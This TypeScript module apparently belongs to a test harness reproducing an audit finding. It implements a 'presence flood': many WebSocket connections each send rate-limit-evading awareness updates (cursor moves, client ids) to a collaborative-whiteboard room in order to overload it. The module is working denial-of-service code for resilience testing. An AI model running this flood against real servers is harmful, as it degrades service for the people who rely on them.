/**
 * Presence flood (issue 15, finding 4): many participants in one room, each sending awareness
 * updates (a tldraw cursor moving, its own client id, a growing clock) at `hz` — under the rate
 * limit — for the whole window. The attackers read what the room relays (skipping it unparsed),
 * as connected clients do.
 */
import { PresenceWriter } from '../edits.js'
import type { Target } from '../job.js'
import { encodeFrame } from '../tcp-websocket.js'
import { prng } from '../wait.js'
import { type Attack, type AttackSpec, dropAll, openAttackers } from './attack.js'

const OPCODE_BINARY = 0x2
/** One timer for every connection: each writes what fell due since, in one write. */
const TICK_MS = 10

export async function preparePresenceFlood(
  spec: Extract<AttackSpec, { kind: 'presence-flood' }>,
  target: Target,
  seed: number,
): Promise<Attack> {
  const random = prng(seed + 4)
  const writers = Array.from(
    { length: spec.connections },
    (_, index) =>
      new PresenceWriter(index, 1 + Math.floor(random() * 0x7ffffffe), {
        x: Math.round(random() * 2000),
        y: Math.round(random() * 2000),
      }),
  )
  const phases = writers.map(() => random())
  const sockets = await openAttackers(target.url, spec.connections, { read: true })
  const periodMs = 1000 / spec.hz
  let sent = 0
  let timer: NodeJS.Timeout | undefined
  return {
    get sent() {
      return sent
    },
    start: () => {
      const start = performance.now()
      // Due times are fixed from the start and a late tick catches up: the attack keeps its rate.
      const due = phases.map((phase) => start + phase * periodMs)
      const tick = () => {
        const now = performance.now()
        sockets.forEach((socket, index) => {
          const frames: Buffer[] = []
          for (; (due[index] as number) <= now; due[index] = (due[index] as number) + periodMs) {
            frames.push(encodeFrame(OPCODE_BINARY, (writers[index] as PresenceWriter).next()))
          }
          if (frames.length > 0 && socket.write(Buffer.concat(frames))) sent += frames.length
        })
        timer = setTimeout(tick, TICK_MS)
      }
      tick()
    },
    stop: () => clearTimeout(timer),
    close: () => dropAll(sockets),
  }
}
